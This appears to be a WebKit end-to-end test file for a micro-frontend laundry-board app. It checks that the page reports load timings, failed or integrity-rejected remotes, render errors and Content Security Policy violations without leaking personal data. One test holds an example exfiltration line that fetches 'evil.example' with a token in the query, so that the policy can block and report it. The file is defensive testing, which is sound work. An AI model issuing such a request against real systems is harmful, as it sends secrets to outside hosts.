import { rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import {
  CONTRACT_VERSIONS,
  REMOTE_ENTRY_FILE,
  REMOTES,
  type RuntimeConfig,
} from '@laundry-board/shared-types';
import { serveReportedShell } from '../../support/reportedSite.ts';
import { sampleSchool } from '../../support/schools.ts';
import { expect, signInByPopup, test as base } from '../../support/webkit/fixtures.ts';

const SAFARI = expect.stringMatching(/^Safari \d+$/);

interface Reported {
  /** Opens a shell that reports, with these settings. */
  readonly open: (settings?: Partial<RuntimeConfig>) => Promise<void>;
  /** Expects a report like this, and none that names anybody. */
  readonly expectReport: (wanted: Readonly<Record<string, unknown>>) => Promise<void>;
}

const test = base.extend<{ reported: Reported }>({
  reported: async ({ folderOf, site, webkit }, use) => {
    const opened: Awaited<ReturnType<typeof serveReportedShell>>[] = [];
    // WebKit does not say when a request has ended. Each look hands over what there is by then, as leaving would.
    const reports = async () => {
      await webkit.evaluate(() => dispatchEvent(new Event('pagehide')));
      return opened.flatMap((shell) => shell.reports);
    };
    await use({
      open: async (settings) => {
        const shell = await serveReportedShell({ ...site.config, ...settings }, folderOf('shell'));
        opened.push(shell);
        await webkit.open(shell.origin);
      },
      expectReport: async (wanted) => {
        await expect.poll(reports).toContainEqual(expect.objectContaining(wanted));
        const sent = opened.map((shell) => shell.bytes()).join('');
        expect(sent).not.toMatch(/\bada\b|campus|maple|localhost|https?:|[?@]/i);
      },
    });
    for (const shell of opened) await shell.close();
  },
});

test('a visitor’s page reports when the login screen was there', async ({ reported }) => {
  await reported.open();
  await reported.expectReport({ type: 'measure', name: 'login-screen', browser: SAFARI });
});

test('a healthy visit reports its first tile', async ({ reported, schools, webkit }) => {
  await schools.write('campus.example', sampleSchool());
  await reported.open();
  await signInByPopup(webkit, 'ada@campus.example');
  await expect
    .poll(() => webkit.names('listitem'))
    .toContainEqual(expect.stringContaining('Washer 1'));
  await reported.expectReport({ type: 'measure', name: 'first-tile', browser: SAFARI });
});

test('a dead board is reported', async ({ expectedErrors, folderOf, reported }) => {
  expectedErrors.push(/could not be loaded|Failed to load/);
  await rm(path.join(folderOf('board-remote'), REMOTE_ENTRY_FILE));
  await reported.open();
  await reported.expectReport({ type: 'error', remote: 'board', phase: 'loading its entry' });
});

test('a pin whose entry is refused is reported', async ({ expectedErrors, reported }) => {
  expectedErrors.push(/could not be loaded|Failed to load|integrity/i);
  const pin = { entry: REMOTE_ENTRY_FILE, integrity: `sha384-${'A'.repeat(64)}` };
  await reported.open({ pins: { board: pin } });
  await reported.expectReport({ type: 'error', remote: 'board', failure: 'damaged' });
});

test('a remote that throws while it renders is reported', async ({
  expectedErrors,
  folderOf,
  reported,
}) => {
  expectedErrors.push(/could not be loaded|Maple House of Ada/);
  const { container } = REMOTES.auth;
  await writeFile(
    path.join(folderOf('auth-remote'), REMOTE_ENTRY_FILE),
    `const state = { phase: 'signed-out', canSignIn: false };
    const session = { subscribe: () => () => {}, getSnapshot: () => state };
    const LoginScreen = () => { throw new TypeError('Maple House of Ada Lovelace'); };
    const module = { LoginScreen, openUserSession: () => Promise.resolve(session) };
    window.${container}_built_against = { contract: ${CONTRACT_VERSIONS.auth}, shared: {} };
    window.${container} = { init() {}, get: () => Promise.resolve(() => module) };`,
  );
  await reported.open();
  await reported.expectReport({
    type: 'error',
    remote: 'auth',
    phase: 'rendering',
    failure: 'threw',
  });
});

test('a violation of the policy is reported, by the page and by the browser itself', async ({
  expectedErrors,
  reported,
  webkit,
}) => {
  expectedErrors.push(
    /Security policy violation: connect-src|Content Security Policy|Refused to connect/,
  );
  await reported.open();
  await reported.expectReport({ type: 'measure', name: 'login-screen' });
  await webkit.evaluate(() => void fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {}));
  const violation = { type: 'violation', directive: 'connect-src', blocked: 'other' };
  await reported.expectReport({ ...violation, browser: SAFARI });
  await reported.expectReport({ ...violation, message: 'reported by the browser' });
});
